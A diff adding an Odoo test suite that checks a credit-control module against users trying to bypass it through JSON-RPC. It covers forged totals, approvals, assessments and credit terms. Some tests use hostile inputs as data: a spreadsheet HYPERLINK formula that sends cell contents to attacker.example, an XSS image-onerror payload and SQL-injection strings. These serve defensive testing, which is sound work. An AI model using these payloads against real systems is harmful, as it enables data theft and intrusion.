@@ -1,0 +1,508 @@
+"""The credit control against the users it restrains, over HTTP.
+
+Each test logs in as an ordinary user (a salesperson, an accountant, a Credit
+User, a Credit Manager) and calls the server through Odoo's JSON-RPC as any
+client can, with any field and any context key, then reads what the database
+kept.
+"""
+
+import io
+
+import openpyxl
+
+from odoo import Command
+from odoo.tests import tagged
+
+from odoo.addons.smec_base.tests.common import RpcCase
+
+from .common import SmecCreditCommon
+
+
+@tagged("post_install", "-at_install")
+class TestHostileUsers(SmecCreditCommon, RpcCase):
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        # Odoo gives new users contact creation by default: the worst case
+        cls.seller = cls._user("smec_seller", "sales_team.group_sale_salesman,base.group_partner_manager")
+        cls.accountant = cls._user("smec_accountant", "account.group_account_invoice,base.group_partner_manager")
+        cls.own_seller = cls._user("smec_own_seller", "sales_team.group_sale_salesman")
+        # a Credit Manager who edits contacts, as credit managers of an SME do
+        cls.boss = cls._user("smec_boss", "smec_credit.group_credit_manager,base.group_partner_manager")
+        cls.customer.sudo().credit_limit = 1000
+
+    def held(self, order):
+        return [r["code"] for r in order._smec_credit_gate(lock=False)[order]]
+
+    # ------------------------------------------------------------
+    # 1. fields only the code computes
+    # ------------------------------------------------------------
+
+    def test_a_sent_total_has_no_effect_and_the_quotation_stays_held(self):
+        order = self.make_order(self.customer, 1799, user=self.seller)
+        self.call_ok(self.seller, "sale.order", "write", [order.id], {"amount_total": 1, "amount_untaxed": 1})
+        order.invalidate_recordset()
+        self.assertEqual(order.amount_total, 1799.0)
+        # 1,799 against 1,000: over by 799
+        message = self.call_refused(
+            self.seller, "UserError", "on credit hold", "sale.order", "action_confirm", [order.id]
+        )
+        self.assertIn("over the limit of $\xa01,000.00 by $\xa0799.00", message)
+        order.invalidate_recordset()
+        self.assertEqual(order.state, "draft")
+
+    def test_writing_a_confirmed_orders_statuses_frees_no_credit(self):
+        confirmed = self.make_order(self.customer, 900, confirm=True, user=self.seller)
+        line = confirmed.order_line
+        self.assertEqual(self.customer.smec_exposure, 900.0)
+        self.call_ok(self.seller, "sale.order", "write", [confirmed.id], {"invoice_status": "invoiced"})
+        self.call_ok(self.seller, "sale.order", "write", [confirmed.id], {"currency_rate": 1000.0})
+        self.call_ok(self.seller, "sale.order.line", "write", [line.id], {"qty_invoiced": 1, "price_total": 0})
+        confirmed.invalidate_recordset()
+        line.invalidate_recordset()
+        self.assertEqual((confirmed.invoice_status, confirmed.currency_rate), ("to invoice", 1.0))
+        self.assertEqual((line.qty_invoiced, line.price_total), (0.0, 900.0))
+        self.customer.invalidate_recordset()
+        self.assertEqual(self.customer.smec_exposure, 900.0)
+        # so the next order is still held: 900 + 200 = 1,100 against 1,000
+        order = self.make_order(self.customer, 200, user=self.seller)
+        message = self.call_refused(
+            self.seller, "UserError", "on credit hold", "sale.order", "action_confirm", [order.id]
+        )
+        self.assertIn("would be $\xa01,100.00", message)
+
+    def test_a_line_flagged_as_down_payment_still_counts(self):
+        confirmed = self.make_order(self.customer, 900, confirm=True, user=self.seller)
+        # a line of 600 created as a "down payment" while the order is confirmed
+        self.call_refused(
+            self.seller,
+            "UserError",
+            "on credit hold",
+            "sale.order",
+            "write",
+            [confirmed.id],
+            {"order_line": [Command.create({"product_id": self.tile.id, "price_unit": 600, "is_downpayment": True})]},
+        )
+        self.assertEqual(len(confirmed.order_line), 1)
+
+    # ------------------------------------------------------------
+    # 2. credit terms on create, import and copy
+    # ------------------------------------------------------------
+
+    def test_credit_terms_are_protected_on_create_import_and_copy(self):
+        Partner = self.env["res.partner"]
+        count, logs = Partner.search_count([]), self.env["smec.credit.log"].search_count([])
+        self.call_refused(
+            self.seller,
+            "AccessError",
+            "Only a Credit Manager can change Credit Grade",
+            "res.partner",
+            "create",
+            [{"name": "Grade A Ltd", "is_company": True, "smec_grade_id": self.grade["A"].id}],
+        )
+        self.call_refused(
+            self.accountant,
+            "AccessError",
+            "Only a Credit Manager can change",
+            "res.partner",
+            "create",
+            [{"name": "Big Limit Ltd", "is_company": True, "credit_limit": 5_000_000}],
+        )
+        imported = self.call_ok(
+            self.accountant,
+            "res.partner",
+            "load",
+            ["name", "is_company", "credit_limit"],
+            [["Import Ltd", "1", "3000000"]],
+        )
+        self.assertFalse(imported["ids"])
+        self.assertRegex(imported["messages"][0]["message"], "Only a Credit Manager can change")
+        self.call_refused(
+            self.accountant,
+            "AccessError",
+            "Only a Credit Manager can change",
+            "res.partner",
+            "copy",
+            [self.customer.id],
+            default={"credit_limit": 5_000_000},
+        )
+        self.assertEqual(Partner.search_count([]), count)
+        self.assertEqual(self.env["smec.credit.log"].search_count([]), logs)
+        # a Credit Manager may, and it is logged as theirs
+        partner_id = self.call_ok(
+            self.boss,
+            "res.partner",
+            "create",
+            [{"name": "Known Ltd", "is_company": True, "credit_limit": 50_000, "smec_change_reason": "Bank guarantee"}],
+        )[0]
+        log = Partner.browse(partner_id).smec_log_ids
+        self.assertEqual((log.field, log.old_value, log.new_value), ("credit_limit", "", "$\xa050,000.00"))
+        self.assertEqual((log.user_id, log.reason), (self.boss, "Bank guarantee"))
+
+    # ------------------------------------------------------------
+    # 3. and 8. approvals
+    # ------------------------------------------------------------
+
+    def test_a_decided_approval_cannot_move_reset_or_be_rewritten(self):
+        other = self.env["res.partner"].create({"name": "Other Tiles", "is_company": True, "credit_limit": 1000})
+        order = self.make_order(self.customer, 1500, user=self.seller)
+        approval = (
+            self.env["smec.credit.approval"]
+            .with_user(self.seller)
+            .create({"order_id": order.id, "request_note": "Peak season"})
+        )
+        approval.action_request()
+        approval.with_user(self.credit_manager).write(
+            {"decision": "temporary", "temp_limit_increase": 1000, "temp_until": self.days(10), "decision_note": "ok"}
+        )
+        approval.with_user(self.credit_manager).action_approve()
+        # moving the temporary increase to another customer has no effect
+        self.call_ok(self.seller, "smec.credit.approval", "write", [approval.id], {"partner_id": other.id})
+        approval.invalidate_recordset()
+        self.assertEqual(approval.partner_id, self.customer)
+        held = self.make_order(other, 1500, user=self.seller)
+        self.assertEqual(self.held(held), ["limit"])
+        # reset to draft, a new justification, a new decision: refused
+        self.call_refused(
+            self.seller,
+            "AccessError",
+            "buttons only",
+            "smec.credit.approval",
+            "write",
+            [approval.id],
+            {"state": "draft"},
+        )
+        self.call_refused(
+            self.seller,
+            "UserError",
+            "cannot change once it is sent",
+            "smec.credit.approval",
+            "write",
+            [approval.id],
+            {"request_note": "The CFO said yes"},
+        )
+        self.call_refused(
+            self.credit_manager,
+            "UserError",
+            "only be set while it is requested",
+            "smec.credit.approval",
+            "write",
+            [approval.id],
+            {"temp_limit_increase": 100000},
+        )
+        approval.invalidate_recordset()
+        self.assertEqual(
+            (approval.state, approval.request_note, approval.temp_limit_increase), ("approved", "Peak season", 1000)
+        )
+
+    def test_approvals_follow_the_rules_of_their_orders(self):
+        theirs = self.make_order(self.customer, 1500, user=self.seller)
+        approval = (
+            self.env["smec.credit.approval"].with_user(self.seller).create({"order_id": theirs.id, "request_note": "x"})
+        )
+        mine = self.make_order(self.customer, 1200, user=self.own_seller)
+        seen = self.call_ok(self.own_seller, "smec.credit.approval", "search_read", [], ["order_id"])
+        self.assertNotIn(approval.id, [row["id"] for row in seen])
+        self.call_refused(
+            self.own_seller, "AccessError", r"\w", "smec.credit.approval", "read", [approval.id], ["request_note"]
+        )
+        self.call_refused(
+            self.own_seller,
+            "AccessError",
+            r"\w",
+            "smec.credit.approval",
+            "create",
+            [{"order_id": theirs.id, "request_note": "not my order"}],
+        )
+        self.assertEqual(self.env["smec.credit.approval"].search_count([("order_id", "=", theirs.id)]), 1)
+        # their own order: as before
+        created = self.call_ok(
+            self.own_seller, "smec.credit.approval", "create", [{"order_id": mine.id, "request_note": "mine"}]
+        )
+        self.assertEqual(len(created), 1)
+
+    # ------------------------------------------------------------
+    # 4. drafts free no credit
+    # ------------------------------------------------------------
+
+    def test_a_draft_credit_note_frees_no_credit(self):
+        self.make_invoice(self.customer, 900, self.today)
+        self.make_invoice(self.customer, 500, self.today, move_type="out_refund", post=False)
+        self.customer.invalidate_recordset()
+        # the draft credit note of 500 counts as nothing: exposure 900, not 400
+        self.assertEqual((self.customer.smec_exposure, self.customer.smec_exposure_drafts), (900.0, 0.0))
+        order = self.make_order(self.customer, 500, user=self.seller)
+        message = self.call_refused(
+            self.seller, "UserError", "on credit hold", "sale.order", "action_confirm", [order.id]
+        )
+        self.assertIn("would be $\xa01,400.00", message)
+        # a blocking flag is not lifted by a draft credit note of 100 either
+        flagged = self.env["res.partner"].create({"name": "Flagged Ltd", "is_company": True})
+        self.env["smec.credit.risk.flag"].create({"partner_id": flagged.id, "flag_type": "dishonest_debtor"})
+        self.make_invoice(flagged, 100, self.today, move_type="out_refund", post=False)
+        small = self.make_order(flagged, 50, user=self.seller)
+        self.call_refused(self.seller, "UserError", "Risk flag", "sale.order", "action_confirm", [small.id])
+        self.assertEqual((order.state, small.state), ("draft", "draft"))
+
+    # ------------------------------------------------------------
+    # 5. and 9. the partner's credit face
+    # ------------------------------------------------------------
+
+    def test_a_salesperson_neither_stops_expiry_nor_writes_a_score(self):
+        assessment = self.new_assessment()
+        self.fill_new_customer(assessment)
+        assessment.action_submit()
+        assessment.with_user(self.credit_manager).action_approve()
+        self.assertEqual((self.customer.smec_assessment_id, self.customer.smec_credit_score), (assessment, 72.88))
+        self.call_ok(
+            self.seller,
+            "res.partner",
+            "write",
+            [self.customer.id],
+            {"smec_assessment_id": False, "smec_credit_score": 99},
+        )
+        self.customer.invalidate_recordset()
+        self.assertEqual((self.customer.smec_assessment_id, self.customer.smec_credit_score), (assessment, 72.88))
+
+    def test_the_audit_reason_is_the_users_own(self):
+        before = self.customer.smec_log_ids
+        self.call_ok(
+            self.boss,
+            "res.partner",
+            "write",
+            [self.customer.id],
+            {"credit_limit": 2000},
+            context={"smec_credit_reason": "Approved by the CFO"},
+        )
+        self.call_ok(
+            self.boss,
+            "res.partner",
+            "write",
+            [self.customer.id],
+            {"credit_limit": 3000, "smec_change_reason": "Paid early for a year"},
+        )
+        self.customer.invalidate_recordset()
+        logs = (self.customer.smec_log_ids - before).sorted("id")
+        self.assertEqual(logs.mapped("reason"), ["Edited on the partner", "Paid early for a year"])
+        self.assertEqual(logs.mapped("new_value"), ["$\xa02,000.00", "$\xa03,000.00"])
+        self.assertEqual(logs.user_id, self.boss)
+
+    # ------------------------------------------------------------
+    # 6. the assessment workflow
+    # ------------------------------------------------------------
+
+    def test_a_credit_user_cannot_forge_the_assessment_workflow(self):
+        assessment = self.new_assessment(user=self.credit_user)
+        self.fill_new_customer(assessment)
+        self.call_refused(
+            self.credit_user,
+            "AccessError",
+            "buttons only",
+            "smec.credit.assessment",
+            "write",
+            [assessment.id],
+            {"state": "approved", "approved_by_id": self.credit_manager.id, "approved_date": "2026-01-01 00:00:00"},
+        )
+        self.call_ok(
+            self.credit_user,
+            "smec.credit.assessment",
+            "write",
+            [assessment.id],
+            {"grade_id": self.grade["A"].id, "total_score": 99},
+        )
+        assessment.invalidate_recordset()
+        self.assertEqual((assessment.state, assessment.total_score), ("draft", 72.88))
+        self.assertEqual(assessment.grade_id, self.grade["B"])
+        # automatic criteria come from the ledger
+        automatic = assessment.answer_ids.filtered(lambda a: a.source == "industry_risk")
+        self.call_refused(
+            self.credit_user,
+            "AccessError",
+            "answered from the ledger",
+            "smec.credit.assessment.answer",
+            "write",
+            automatic.ids,
+            {"value": 1},
+        )
+        self.call_ok(self.credit_user, "smec.credit.assessment", "action_submit", [assessment.id])
+        assessment.invalidate_recordset()
+        self.assertEqual(assessment.submitted_by_id, self.credit_user)
+        self.call_ok(self.credit_manager, "smec.credit.assessment", "action_approve", [assessment.id])
+        assessment.invalidate_recordset()
+        self.assertEqual((assessment.state, assessment.approved_by_id), ("approved", self.credit_manager))
+        # approved: history. Neither reopened nor re-answered nor re-scored
+        self.call_refused(
+            self.credit_user,
+            "AccessError",
+            "buttons only",
+            "smec.credit.assessment",
+            "write",
+            [assessment.id],
+            {"state": "draft"},
+        )
+        self.call_refused(
+            self.credit_user,
+            "AccessError",
+            "part of the partner's history",
+            "smec.credit.assessment",
+            "write",
+            [assessment.id],
+            {"valid_until": "2099-12-31"},
+        )
+        manual = assessment.answer_ids.filtered(lambda a: a.criterion_id.name == "Years in business")
+        self.call_refused(
+            self.credit_user,
+            "AccessError",
+            "part of the partner's history",
+            "smec.credit.assessment.answer",
+            "write",
+            manual.ids,
+            {"value": 30},
+        )
+        assessment.invalidate_recordset()
+        self.assertEqual((assessment.state, assessment.total_score, manual.value), ("approved", 72.88, 6.0))
+
+    def test_a_credit_manager_does_not_approve_their_own_assessment(self):
+        assessment = self.new_assessment(user=self.credit_manager)
+        self.fill_new_customer(assessment)
+        assessment.with_user(self.credit_manager).action_submit()
+        self.call_refused(
+            self.credit_manager,
+            "UserError",
+            "another Credit Manager must approve it",
+            "smec.credit.assessment",
+            "action_approve",
+            [assessment.id],
+        )
+        self.assertEqual(assessment.state, "submitted")
+        self.company.smec_allow_self_approval = True
+        self.call_ok(self.credit_manager, "smec.credit.assessment", "action_approve", [assessment.id])
+        assessment.invalidate_recordset()
+        self.assertEqual(assessment.state, "approved")
+
+    # ------------------------------------------------------------
+    # 7. the aging export writes text as text
+    # ------------------------------------------------------------
+
+    def test_a_partner_name_is_never_a_formula_in_the_xlsx(self):
+        name = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
+        rogue = self.env["res.partner"].create({"name": name, "is_company": True})
+        self.make_invoice(rogue, 250, self.days(-40))
+        wizard_id = self.call_ok(self.credit_user, "smec.credit.aging.wizard", "create", [{"with_detail": True}])[0]
+        action = self.call_ok(self.credit_user, "smec.credit.aging.wizard", "action_export_xlsx", [wizard_id])
+        self.authenticate(self.credit_user.login, self.credit_user.login)
+        content = self.url_open(action["url"]).content
+        book = openpyxl.load_workbook(io.BytesIO(content))
+        for sheet in book.worksheets:
+            cells = [row[0] for row in sheet.iter_rows(min_row=5) if row[0].value == name]
+            self.assertEqual(len(cells), 1, sheet.title)
+            self.assertEqual(cells[0].data_type, "s")
+
+    # ------------------------------------------------------------
+    # 10. text in HTML notes
+    # ------------------------------------------------------------
+
+    def test_decision_notes_are_escaped_in_activities(self):
+        order = self.make_order(self.customer, 1500, user=self.seller)
+        approval = (
+            self.env["smec.credit.approval"].with_user(self.seller).create({"order_id": order.id, "request_note": "x"})
+        )
+        approval.action_request()
+        note = '<img src=x onerror="alert(1)">\nSecond line'
+        self.call_ok(self.credit_manager, "smec.credit.approval", "write", [approval.id], {"decision_note": note})
+        self.call_ok(self.credit_manager, "smec.credit.approval", "action_approve", [approval.id])
+        activity = order.activity_ids.filtered(lambda a: a.user_id == self.seller)
+        self.assertEqual(len(activity), 1)
+        self.assertNotIn("<img", str(activity.note))
+        self.assertIn("&lt;img src=x onerror=", str(activity.note))
+        self.assertIn("<br>Second line", str(activity.note))
+
+    # ------------------------------------------------------------
+    # 11. bad input: a clear error, nothing changed
+    # ------------------------------------------------------------
+
+    def test_bad_input_gets_a_clear_error_and_changes_nothing(self):
+        self.call_refused(
+            self.boss,
+            "ValidationError",
+            "A credit limit is an amount",
+            "res.partner",
+            "write",
+            [self.customer.id],
+            {"credit_limit": "a lot"},
+        )
+        self.call_refused(
+            self.boss,
+            "ValidationError",
+            "cannot be negative",
+            "res.partner",
+            "create",
+            [{"name": "Negative Ltd", "credit_limit": -5}],
+        )
+        self.customer.invalidate_recordset()
+        self.assertEqual(self.customer.credit_limit, 1000.0)
+        for context, regex in (
+            ({"smec_aging_date": "yesterday"}, "must be a date"),
+            ({"smec_aging_date": str(self.days(30))}, "is in the future"),
+            ({"smec_aging_partner_ids": "1) OR (1=1"}, "not a list"),
+            ({"smec_aging_basis": "'; DROP TABLE x; --"}, "not one it offers"),
+        ):
+            with self.subTest(context=context):
+                self.call_refused(
+                    self.credit_user,
+                    "UserError",
+                    regex,
+                    "smec.credit.aging.line",
+                    "web_search_read",
+                    [],
+                    {},
+                    context=context,
+                )
+        admin = self.env.ref("base.user_admin")
+        admin.write({"company_ids": [Command.link(self.company.id)], "company_id": self.company.id})
+        for vals, regex in (
+            ({"smec_provision_rates": "1,2,nan,4,5,6"}, "between 0 and 100"),
+            ({"smec_review_cut_percent": 150}, "between 0 and 100"),
+        ):
+            with self.subTest(vals=vals):
+                self.call_refused(admin, "ValidationError", regex, "res.company", "write", [self.company.id], vals)
+        self.company.invalidate_recordset()
+        self.assertEqual(self.company.smec_review_cut_percent, 30.0)
+
+    # ------------------------------------------------------------
+    # 12. flags every company relies on
+    # ------------------------------------------------------------
+
+    def test_a_shared_flag_is_the_credit_managers(self):
+        shared = self.env["smec.credit.risk.flag"].create(
+            {"partner_id": self.customer.id, "flag_type": "dishonest_debtor"}
+        )
+        self.call_refused(
+            self.credit_user,
+            "AccessError",
+            "only a Credit Manager",
+            "smec.credit.risk.flag",
+            "action_lift",
+            [shared.id],
+        )
+        self.call_refused(
+            self.credit_user,
+            "AccessError",
+            "only a Credit Manager",
+            "smec.credit.risk.flag",
+            "create",
+            [{"partner_id": self.customer.id, "flag_type": "bankruptcy"}],
+        )
+        shared.invalidate_recordset()
+        self.assertFalse(shared.date_end)
+        # their own company's flags are theirs
+        own = self.call_ok(
+            self.credit_user,
+            "smec.credit.risk.flag",
+            "create",
+            [{"partner_id": self.customer.id, "flag_type": "litigation", "company_id": self.company.id}],
+        )
+        self.call_ok(self.credit_user, "smec.credit.risk.flag", "action_lift", own)
+        self.call_ok(self.credit_manager, "smec.credit.risk.flag", "action_lift", [shared.id])
+        shared.invalidate_recordset()
+        self.assertEqual(shared.date_end, self.today)
